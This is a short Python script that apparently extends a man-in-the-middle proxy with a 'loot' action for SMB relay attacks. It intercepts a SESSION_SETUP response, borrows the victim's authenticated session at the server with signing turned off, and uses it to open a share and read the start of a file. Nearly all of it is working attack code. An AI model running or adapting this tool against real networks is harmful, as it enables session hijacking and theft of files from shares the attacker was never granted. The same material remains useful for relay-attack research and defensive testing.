#!/usr/bin/python3
"""proxy.py with one more action, for what somebody does who relays a logon.

    loot SHARE FILE     before a SESSION_SETUP response goes to the client: use its session at the
                        server, unsigned, to open the share and read the beginning of the file
"""
import struct

import proxy
import smb2pdu as pdu
from smb2client import Client
from smb2keys import Keys

FIRST_MESSAGE_ID = 20           # far enough from those that the client will use


class BorrowedSession(Client):
    """A client on a connection that somebody else has logged on."""

    def __init__(self, sock, response):
        self.socket, self.name = sock, "FILES"
        self.keys, self.signing = Keys(), False
        self.message_id, self.tree_id = FIRST_MESSAGE_ID, 0
        self.session_id = struct.unpack_from("<Q", response, pdu.SESSION_ID)[0]

    def read_file(self, share, name):
        self.tree_connect(share)
        opened = self.call("CREATE", self.create_body(name))
        if opened is None or pdu.u32(opened, pdu.STATUS):
            return
        file_id = bytes(opened[pdu.HEADER + 64:pdu.HEADER + 80])
        self.call("READ", struct.pack("<HBBIQ16sIIIHHB", 49, 0, 0, 4096, 0, file_id, 0, 0, 0, 0, 0, 0))
        self.call("CLOSE", struct.pack("<HHI16s", 24, 0, 0, file_id))


def act_loot(passage, share, name):
    server = passage.connection.sockets["server"]
    BorrowedSession(server, passage.message).read_file(share, name)


proxy.ACTIONS["loot"] = act_loot

if __name__ == "__main__":
    proxy.main()
